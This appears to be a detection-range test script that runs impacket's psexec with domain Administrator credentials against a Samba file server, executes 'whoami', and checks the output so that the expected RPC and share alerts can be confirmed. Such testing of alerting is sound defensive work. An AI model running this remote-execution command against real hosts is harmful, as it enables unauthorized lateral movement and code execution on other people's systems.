# SPDX-License-Identifier: Apache-2.0
# what: impacket's psexec against a Samba server, which makes no service
# technique: T1569.002
# from: ws1
# to: fs1
# account: Administrator
# outcome: attempt
# must: alert rpc,share
. "$RANGE_HERE/item.sh"
timeout 25 /usr/bin/python3 "$IMPACKET/psexec.py" "CORP/Administrator:$ADMIN_PASSWORD@$fs1" whoami >"$HOME/said" 2>&1 </dev/null
cat "$HOME/said"
grep -q 'Uploading file\|Opening SVCManager' "$HOME/said"
